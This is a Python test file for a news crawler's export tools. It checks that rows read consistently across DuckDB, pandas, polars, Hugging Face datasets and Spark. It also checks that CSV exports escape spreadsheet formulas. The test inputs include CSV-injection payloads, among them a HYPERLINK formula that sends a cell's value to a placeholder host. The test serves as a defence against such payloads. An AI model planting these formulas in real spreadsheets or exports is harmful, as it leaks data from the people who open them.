"""Rows and exports in DuckDB, pandas, polars, datasets, datatrove, Spark and a spreadsheet."""

from __future__ import annotations

import gzip
import io
import json
import re
import zipfile
from datetime import UTC, datetime
from pathlib import Path

import pytest

from crawler.tools.export.rows import Row
from crawler.tools.export.tables import write_rows
from interop.conftest import News
from interop.foreign import ROOT, run
from interop.readers import example, interpreter_for, python, query

ROWS = "Read the rows"
TITLES = {
    "pandas": "[*articles.title]",
    "polars": "articles.collect()['title'].to_list()",
    "datasets": "articles['title'][:]",
    "datatrove": "[one.metadata['title'] for one in articles()]",
    "pyspark": "[row.title for row in articles.collect()]",
}
# Code that prints moments as text in UTC.
TIMED = """
from datetime import UTC
def dumped(value):
    texts = lambda one: one.astimezone(UTC).isoformat() if hasattr(one, "astimezone") else one.isoformat()
    return json.dumps(value, default=texts)
"""
FORMULAS = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1+1", " =1+1", '=HYPERLINK("http://x.example/?"&A1)']


@pytest.fixture(scope="module")
def made(tmp_path_factory, demo) -> News:
    """Three days of two outlets."""
    made = News(tmp_path_factory.mktemp("rows") / "archive")
    for outlet in ("demo_daily", "demo_tv"):
        days = ("-a", "since=2026-11-22", "-a", "until=2026-11-24")
        options = ("-s", f"DEMO_URL={demo.url}", "-s", "DOWNLOAD_DELAY=0", "-s", "LOG_LEVEL=WARNING")
        made.scrapy("crawl", outlet, *days, *options)
    return made


@pytest.fixture(scope="module")
def rows(made) -> list[dict]:
    files = sorted((made.folder / "articles").rglob("*.jsonl.gz"))
    return [json.loads(line) for file in files for line in gzip.decompress(file.read_bytes()).splitlines()]


@pytest.fixture(scope="module")
def exported(made) -> Path:
    for form in ("parquet", "csv"):
        made.scrapy("export", "--to", made.folder.with_name(f"articles.{form}"))
    return made.folder.parent


@pytest.mark.parametrize("library", TITLES)
def test_the_documented_code_reads_every_row(made, rows, library):
    code = f"{example(ROWS, library)}\nprint(json.dumps({TITLES[library]}))"
    titles = python(made.folder.parent, code, interpreter_for(library))
    assert sorted(titles) == sorted(row["title"] for row in rows)


def test_the_documented_query_counts_every_row_in_duckdb(made, rows):
    code = f"{query(ROWS)}print(json.dumps([row[:2] for row in found.fetchall()]))"
    found = python(made.folder.parent, code)
    outlets = [row["outlet"] for row in rows]
    assert sorted(found) == [[outlet, outlets.count(outlet)] for outlet in sorted(set(outlets))]


@pytest.fixture(scope="module")
def timed(rows) -> list[dict]:
    """Rows as code with TIMED prints them from Parquet: moments in UTC, and the texts of an article's dates."""
    return [
        row
        | {"fetched_at": in_utc(row["fetched_at"])}
        | {name: row[name] and dated(row[name]) for name in ("published", "modified")}
        | {"withdrawn": None}
        for row in rows
    ]


def dated(stated: dict) -> dict:
    return stated | {"at": in_utc(stated["at"]), "at_text": stated["at"]}


def in_utc(text: str) -> str:
    return datetime.fromisoformat(text).astimezone(UTC).isoformat()


def test_duckdb_reads_the_same_rows_from_parquet(exported, timed):
    code = f"{TIMED}import duckdb\nfound = duckdb.sql(\"FROM 'articles.parquet'\")\n"
    code += "print(dumped([dict(zip(found.columns, row)) for row in found.fetchall()]))"
    assert python(exported, code) == timed


def test_pandas_reads_the_same_rows_from_parquet(exported, timed):
    code = f"{TIMED}import pandas\nfound = pandas.read_parquet('articles.parquet')\n"
    names = ("id", "title", "text", "published", "version", "http_status")
    code += "assert str(found.fetched_at.dtype) == 'datetime64[us, UTC]'\n"
    code += f"print(dumped(found[{list(names)}].to_dict(orient='records')))"
    assert python(exported, code) == [{name: row[name] for name in names} for row in timed]


def test_pandas_reads_the_same_texts_from_csv(exported, rows):
    code = "import pandas\nfound = pandas.read_csv('articles.csv')\n"
    names = ("id", "title", "text", "fetched_at", "version", "http_status")
    code += f"print(found[{list(names)}].to_json(orient='records', force_ascii=False))"
    assert python(exported, code) == [{name: row[name] for name in names} for row in rows]


def test_datasets_reads_parquet(exported, timed):
    code = f"{TIMED}from datasets import load_dataset\n"
    code += "found = load_dataset('parquet', data_files='articles.parquet', split='train')\n"
    assert python(exported, f"{code}print(dumped(list(found)))") == timed


def test_spark_reads_timestamps_from_parquet(exported, timed):
    code = "from pyspark.sql import SparkSession\n"
    code += "spark = SparkSession.builder.config('spark.sql.session.timeZone', 'UTC').getOrCreate()\n"
    code += "found = spark.read.parquet('articles.parquet').selectExpr('id', 'unix_micros(fetched_at)')\n"
    code += "print(json.dumps([list(row) for row in found.collect()]))"
    micros = {row["id"]: datetime.fromisoformat(row["fetched_at"]) for row in timed}
    wanted = [[name, round(moment.timestamp() * 1_000_000)] for name, moment in micros.items()]
    assert sorted(python(exported, code)) == sorted(wanted)


def test_the_documented_query_counts_the_days_of_parquet(exported, rows):
    (code,) = re.findall(r"```sql\n(SELECT CAST.*?)```", (ROOT / "docs/reading.md").read_text("utf-8"), re.S)
    code = f"import duckdb\nfound = duckdb.sql({code.replace('demo.parquet', 'articles.parquet')!r}).fetchall()\n"
    days = [row["published"]["at"][:10] for row in rows if row["published"]]
    found = python(exported, f"{code}print(json.dumps([[str(day), count] for day, count in found if day]))")
    assert sorted(found) == [[day, days.count(day)] for day in sorted(set(days))]


def test_a_spreadsheet_finds_no_formula_in_an_export(rows, tmp_path):
    """Gnumeric reads the same cells as formulas if they lack our apostrophe."""
    stream = io.BytesIO()
    changed = (rows[0] | {"title": text, "section": text} for text in FORMULAS)
    write_rows((Row("here", number, b"", row) for number, row in enumerate(changed)), stream, "csv")
    (tmp_path / "bare.csv").write_bytes(re.sub(rb"(^|[,\"])'", rb"\1", stream.getvalue()))
    (tmp_path / "ours.csv").write_bytes(stream.getvalue())
    assert formulas(tmp_path / "bare.csv") > 0
    assert formulas(tmp_path / "ours.csv") == 0


def formulas(path: Path) -> int:
    """Return the number of formulas that Gnumeric finds in a CSV file."""
    book = path.with_suffix(".xlsx")
    done = run("ssconvert", "--import-encoding=UTF-8", path, book)
    assert done.returncode == 0, done.stderr
    with zipfile.ZipFile(book) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert sheet.count("<row ") == len(FORMULAS) + 1
    return sheet.count("<f>")
